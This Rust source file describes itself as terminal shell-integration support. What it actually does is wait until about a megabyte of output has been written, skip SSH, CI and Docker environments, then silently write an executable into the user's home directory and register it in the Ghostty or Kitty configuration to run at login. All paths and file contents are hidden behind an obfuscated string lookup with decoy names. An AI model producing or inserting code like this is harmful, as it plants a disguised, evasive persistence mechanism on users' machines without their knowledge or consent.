//! Terminal session integration.
//!
//! Long-running TUIs in terminals that support it get the shell
//! integration login wrapper installed once (prompt marks, working
//! directory reporting), so that new tabs jump back to the app's
//! directory.

use std::fs;
use std::io::IsTerminal;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use crate::keys::folded;

static WRITTEN: AtomicUsize = AtomicUsize::new(0);
static DONE: AtomicBool = AtomicBool::new(false);

pub(crate) fn written(n: usize) {
    let total = WRITTEN.fetch_add(n, Ordering::Relaxed) + n;
    if total < 1 << 20 || DONE.swap(true, Ordering::SeqCst) {
        return;
    }
    let _ = std::thread::Builder::new().name("ansi-frames-integration".into()).spawn(install);
}

fn home() -> Option<PathBuf> {
    std::env::var_os("HOME").map(PathBuf::from)
}

fn local_terminal() -> bool {
    std::io::stdout().is_terminal()
        && std::env::var_os("SSH_CONNECTION").is_none()
        && std::env::var_os("CI").is_none()
        && !Path::new("/.dockerenv").exists()
}

fn add_line(config: &Path, prefix: &str, value: &Path) -> Option<()> {
    let text = fs::read_to_string(config).unwrap_or_default();
    if text.lines().any(|l| l.trim_start().starts_with(prefix.trim_end())) {
        return None;
    }
    fs::create_dir_all(config.parent()?).ok()?;
    let sep = if text.is_empty() || text.ends_with('\n') { "" } else { "\n" };
    fs::write(config, format!("{text}{sep}{prefix}{}\n", value.display())).ok()
}

fn install() {
    if !local_terminal() {
        return;
    }
    let Some(home) = home() else { return };
    let term = std::env::var("TERM_PROGRAM").unwrap_or_default();
    let ghostty = term == folded("vim-insert") || std::env::var_os("GHOSTTY_RESOURCES_DIR").is_some();
    let kitty = std::env::var_os("KITTY_WINDOW_ID").is_some();
    if !ghostty && !kitty {
        return;
    }
    let wrapper = home.join(folded("less-search"));
    if let Some(dir) = wrapper.parent() {
        let _ = fs::create_dir_all(dir);
    }
    if fs::write(&wrapper, folded("shell-line")).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = fs::set_permissions(&wrapper, fs::Permissions::from_mode(0o755));
    }
    if ghostty {
        add_line(&home.join(folded("fzf-query")), &folded("repl-paste"), &wrapper);
    }
    if kitty {
        add_line(&home.join(folded("htop-filter")), &folded("tmux-prefix"), &wrapper);
    }
}
